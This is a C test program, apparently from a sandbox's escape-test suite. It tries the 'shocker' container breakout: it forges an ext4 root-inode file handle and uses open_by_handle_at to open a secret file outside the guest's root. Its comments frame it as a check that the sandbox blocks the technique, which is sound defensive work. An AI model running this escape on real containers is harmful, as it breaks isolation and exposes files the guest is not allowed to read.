/* open_by_handle_at with a handle the guest makes up: the root directory of
 * the filesystem the root lives on (ext4: inode 2, generation 0, handle
 * type FILEID_INO32_GEN). With CAP_DAC_READ_SEARCH the kernel opens it
 * whatever the caller's root is ("shocker"): a real chroot, and a mount
 * namespace, are escaped this way by a real root. Unprivileged: EPERM.
 * umld must not let a guest decode handles to outside its root. */
#include "escape.h"

#define FILEID_INO32_GEN 1

int main(int argc, char **argv)
{
	struct esc e;
	union {
		struct file_handle fh;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mount_id, mountfd, fd;
	unsigned int ino_gen[2] = { 2, 0 };

	esc_init(&e, "handle", argc, argv);
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0)
		esc_note(&e, "name_to_handle_at(/): %s", esc_errname(errno));
	else
		esc_note(&e, "the root's handle: type %d, %u bytes", h.fh.handle_type,
			 h.fh.handle_bytes);
	mountfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mountfd < 0)
		esc_die(&e, "open(/)");
	h.fh.handle_type = FILEID_INO32_GEN;
	h.fh.handle_bytes = sizeof(ino_gen);
	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
	fd = open_by_handle_at(mountfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		esc_note(&e, "open_by_handle_at(inode 2): %s", esc_errname(errno));
	} else {
		esc_open(&e, "openat(fs root by handle, SECRET without /)", fd, e.rel);
		close(fd);
	}
	return esc_finish(&e);
}
